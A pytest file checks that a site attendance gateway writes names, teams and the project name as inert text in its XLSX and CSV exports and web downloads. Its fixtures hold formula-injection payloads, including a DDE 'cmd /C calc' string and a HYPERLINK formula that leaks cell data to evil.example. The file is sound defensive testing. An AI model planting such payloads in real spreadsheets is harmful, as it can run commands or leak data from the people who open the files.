"""Data out is inert: names, teams and a project name that look like spreadsheet formulas land
as text in every sheet the gateway writes -- `sitegate export attendance` (XLSX and CSV, the
real console script, the roster filled by `sitegate roster import`) and the web app's
downloads. Read back with openpyxl (the cell type must be string, not formula) and csv."""
from __future__ import annotations

import csv
import io
import subprocess

import openpyxl
import pytest

from attendance_records import allow, local_ms, put
from gateway import keys
from gateway.config import load
from procs import sitegate_cmd
from uplink.outbox import Outbox

pytestmark = pytest.mark.timeout(120)
GW = "gw-inert-1"
PROJECT = "=cmd|' /C calc'!A0"
HOSTILE = {
    "W1": ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    "W2": ("+1+1", "-2+3"),
    "W3": ("\t=1+1", "-\t1"),
    "W4": ("  =1+1", "＝1+1"),               # after spaces; full-width equals sign
    "W5": ("张三", "钢筋班"),                  # ordinary text is left alone
}


@pytest.fixture
def site(home, tmp_path):
    (home / "site.toml").write_text(f'[gateway]\nid = "{GW}"\nproject = "{PROJECT}"\n')
    cfg = load(home / "site.toml")
    roster_csv = tmp_path / "roster.csv"
    with open(roster_csv, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["worker_id", "name", "team"])
        for wid, (name, team) in HOSTILE.items():
            w.writerow([wid, name, team])
    r = subprocess.run(sitegate_cmd("roster", "import", str(roster_csv), "-c", str(home / "site.toml")),
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    outbox = Outbox(cfg.outbox_path, GW, keys.generate(cfg.key_file))
    for wid in HOSTILE:
        put(outbox, allow(wid, "in"), local_ms(2026, 11, 2, 7, 50))
    outbox.close()
    return cfg


def risky(text: str) -> bool:
    return text.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def export(cfg, *args):
    r = subprocess.run(sitegate_cmd("export", "attendance", "--month", "2026-11", "-c",
                                    str(cfg.home / "site.toml"), *args), capture_output=True, timeout=60)
    assert r.returncode == 0, r.stderr.decode()[-800:]
    return r


def check_xlsx(data_or_path) -> None:
    src = io.BytesIO(data_or_path) if isinstance(data_or_path, bytes) else data_or_path
    ws = openpyxl.load_workbook(src)["2026-11"]
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert ws["A1"].value.endswith(PROJECT + " 2026年11月") and ws["A1"].data_type == "s"
    rows = {r[1].value: r for r in ws.iter_rows(min_row=4) if r[1].value in HOSTILE}
    assert set(rows) == set(HOSTILE)
    for wid, (name, team) in HOSTILE.items():
        cname, cteam = rows[wid][2], rows[wid][4]
        # the text itself, unchanged (XML keeps no bare carriage return)
        assert (cname.value, cteam.value) == (name.replace("\r", ""), team.replace("\r", ""))
        assert cname.data_type == cteam.data_type == "s"
        assert cname.quotePrefix == risky(name) and cteam.quotePrefix == risky(team)


def check_csv(data: bytes) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["考勤表 " + PROJECT + " 2026年11月"]
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    by_id = {r[1]: r for r in rows[2:]}
    for wid, (name, team) in HOSTILE.items():
        assert by_id[wid][2] == ("'" + name if risky(name) else name)
        assert by_id[wid][4] == ("'" + team if risky(team) else team)
    assert by_id["W1"][2] == "'" + HOSTILE["W1"][0] and by_id["W5"][2] == "张三"


def test_export_command_writes_formula_text_as_text(site, tmp_path):
    export(site, "-o", str(tmp_path / "m.xlsx"))
    check_xlsx(tmp_path / "m.xlsx")
    export(site, "-o", str(tmp_path / "m.csv"))
    check_csv((tmp_path / "m.csv").read_bytes())
    check_csv(export(site, "-o", "-").stdout)


def test_web_downloads_write_formula_text_as_text(site):
    from fastapi.testclient import TestClient

    from gateway.cli.web import open_accounts
    from gateway.ledger.site_data import SiteData
    from gateway.web.app import build_app
    acc = open_accounts(site)
    acc.add("boss", "manager", "manager-pass-1")
    data = SiteData(site)
    try:
        c = TestClient(build_app(data, acc))
        assert c.post("/login", data={"user": "boss", "password": "manager-pass-1"},
                      follow_redirects=False).status_code == 303
        check_xlsx(c.get("/sheet/2026-11.xlsx").content)
        check_csv(c.get("/sheet/2026-11.csv").content)
    finally:
        data.close()
        acc.close()


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    (" =1", "' =1"), ("＠x", "'＠x"), ("a=1", "a=1"), ("", ""), (5, 5), (-3, -3), ("1-2", "1-2"),
])
def test_inert_cells(value, expected):
    from gateway.ledger.sheet import inert
    assert inert(value) == expected
